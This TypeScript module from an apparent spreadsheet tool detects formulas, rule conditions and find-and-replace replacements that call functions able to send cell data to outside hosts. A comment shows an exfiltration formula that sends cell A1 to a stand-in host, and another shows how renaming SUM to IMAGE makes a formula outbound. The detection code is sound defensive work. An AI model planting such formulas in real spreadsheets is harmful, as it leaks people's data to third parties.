import { codeOf, OUTBOUND_FUNCTIONS } from '../kit/formula-text.ts';

/**
 * Formulas that fetch from, or reveal to, a host outside the person's account each time the
 * spreadsheet is computed (issue 37): the URL such a function is given, built from cells or not,
 * is requested by Google's servers, so `=IMAGE("https://example.net/?"&A1)` sends A1 to
 * example.net. The functions are kit/formula-text.ts' OUTBOUND_FUNCTIONS (sources in
 * docs/design.md §11.10); a name inside a string literal is text, not a call.
 */
export type FetchFunction = (typeof OUTBOUND_FUNCTIONS)[number];

const CALLED = new RegExp(`(?<![\\w.])(${OUTBOUND_FUNCTIONS.join('|')})\\s*\\(`, 'gi');
// A name as a whole word, called or not: what a replacement may put into a formula.
const NAMED = new RegExp(`(?<![\\w.])(${OUTBOUND_FUNCTIONS.join('|')})(?![\\w])`, 'gi');
const URL_HOST = /https?:\/\/([^/?#"'\s:]+)/gi;

/** What one piece of text would fetch: the functions it calls and the hosts it names literally. */
export interface FetchUse {
  functions: FetchFunction[];
  /** Hosts written in the text; a URL built from cells or elsewhere has none. */
  hosts: string[];
}

/** The fetch functions a formula (a value starting with `=`) calls; undefined when it calls none. */
export function fetchesInFormula(value: string): FetchUse | undefined {
  const formula = value.trimStart();
  return formula.startsWith('=') ? uses(formula, codeOf(formula), CALLED) : undefined;
}

/**
 * The fetch functions a rule condition's text calls (`CUSTOM_FORMULA =…`, `NUMBER_GREATER =…`):
 * a formula from its first `=` on.
 */
export function fetchesInCondition(condition: string): FetchUse | undefined {
  const start = condition.indexOf('=');
  if (start < 0) return undefined;
  const formula = condition.slice(start);
  return uses(formula, codeOf(formula), CALLED);
}

/**
 * The fetch functions a find-and-replace replacement may bring into formulas: a name alone is
 * enough (`SUM` → `IMAGE` turns `=SUM(A1)` into `=IMAGE(A1)`).
 */
export function fetchesInReplacement(replacement: string): FetchUse | undefined {
  return uses(replacement, replacement, NAMED);
}

function uses(text: string, code: string, pattern: RegExp): FetchUse | undefined {
  const functions = new Set<FetchFunction>();
  for (const match of code.matchAll(pattern)) functions.add(match[1]!.toUpperCase() as FetchFunction);
  if (functions.size === 0) return undefined;
  const hosts = new Set<string>();
  for (const match of text.matchAll(URL_HOST)) hosts.add(match[1]!.toLowerCase());
  return { functions: [...functions], hosts: [...hosts] };
}
